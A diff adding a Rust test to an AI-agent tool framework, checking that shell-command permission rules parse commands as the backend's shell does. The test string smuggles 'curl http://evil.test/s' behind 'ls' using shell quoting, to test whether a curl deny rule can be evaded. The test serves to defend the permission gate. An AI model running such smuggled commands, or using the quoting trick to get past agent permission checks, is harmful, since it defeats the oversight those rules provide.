@@ -3,10 +3,11 @@
 use std::sync::Arc;
 use std::time::{Duration, Instant};
 
-use agentcore::backend::{Backend, MemoryBackend};
+use agentcore::backend::{Backend, MemoryBackend, Shell};
+use agentcore::permission::{Behavior, PermissionRules};
 use agentcore::tool::check_arguments;
 use agentcore::tools::{coding, picoclaw, wick};
-use agentcore::{BoxError, Tool, ToolContext, ToolOutput};
+use agentcore::{BoxError, FuncTool, Tool, ToolCall, ToolContext, ToolOutput};
 use serde_json::{Value, json};
 
 use crate::kit::workspace::Workspace;
@@ -48,6 +49,34 @@ async fn bash_shows_both_streams_in_order() {
     for args in [json!({}), json!({"command": "x", "timeout": 600_001})] {
         assert!(call(&tool, args).await.is_err());
     }
+}
+
+#[test]
+fn command_is_checked_as_the_shell_of_the_backend_reads_it() {
+    let local = Workspace::new().backend;
+    let command = r"ls -d / $'\'; curl http://evil.test/s #'";
+    let rules = PermissionRules::new().allow("Bash(ls:*)").unwrap();
+    let rules = rules.deny("Bash(curl:*)").unwrap();
+    let decide = |tool: FuncTool| {
+        let call = ToolCall::new("c", tool.name(), json!({"command": command}));
+        rules.explain(&call, &tool).decision
+    };
+
+    let expected = match local.shell() {
+        Shell::Bash => Behavior::Allow,
+        _ => Behavior::Ask,
+    };
+    assert_eq!(decide(coding::bash(local.clone())), expected);
+    assert_eq!(decide(picoclaw::exec(local.clone())), expected);
+    assert_eq!(decide(wick::execute(local)), expected);
+    assert_eq!(decide(coding::bash(MemoryBackend::new())), Behavior::Ask);
+    let own = || {
+        FuncTool::new("Bash", "Runs", json!({"type": "object"}), |_, _| async {
+            ""
+        })
+    };
+    assert_eq!(decide(own()), Behavior::Ask);
+    assert_eq!(decide(own().shell(Shell::Bash)), Behavior::Allow);
 }
 
 #[tokio::test]
